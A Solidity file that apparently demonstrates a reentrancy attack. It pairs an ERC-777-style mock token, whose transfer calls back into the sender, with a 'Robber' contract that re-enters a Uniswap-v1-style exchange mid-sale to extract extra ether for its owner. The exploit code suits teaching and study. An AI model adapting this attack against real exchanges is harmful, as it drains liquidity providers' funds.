// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface ISender {
    function beforeSending() external;
}

interface IExchange {
    function ethToTokenSwapInput(uint256 minimum, uint256 deadline) external payable returns (uint256 tokens);
    function tokenToEthSwapInput(uint256 tokens, uint256 minimum, uint256 deadline) external returns (uint256 coins);
}

/// A token that can call its sender before it moves anything, as tokens of ERC-777 do.
contract Token {
    mapping(address owner => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    mapping(address owner => bool) public wantsCalls;

    constructor() {
        balanceOf[msg.sender] = 1e30;
    }

    function setCalls(bool wanted) external {
        wantsCalls[msg.sender] = wanted;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (wantsCalls[from]) ISender(from).beforeSending();
        allowance[from][msg.sender] -= amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Buys tokens and sells them in parts, the next part before the previous one has arrived. Works with this folder's token only.
contract Robber {
    address private immutable OWNER = msg.sender;
    IExchange private immutable EXCHANGE;
    Token private immutable TOKEN;
    uint256 private part;
    uint256 private left;

    constructor(IExchange exchange, Token token) {
        (EXCHANGE, TOKEN) = (exchange, token);
    }

    // #region rob
    function rob(uint256 parts) external payable returns (uint256 coins) {
        uint256 bought = EXCHANGE.ethToTokenSwapInput{value: msg.value}(1, block.timestamp);
        (part, left) = (bought / parts, parts);
        TOKEN.approve(address(EXCHANGE), bought);
        TOKEN.setCalls(true);
        _sell();
        coins = address(this).balance;
        (bool paid, ) = OWNER.call{value: coins}("");
        require(paid);
    }

    function beforeSending() external {
        if (left > 0) _sell(); // the exchange has paid, but doesn't have the tokens yet
    }

    function _sell() private {
        left--;
        EXCHANGE.tokenToEthSwapInput(part, 1, block.timestamp);
    }
    // #endregion rob

    receive() external payable {}
}
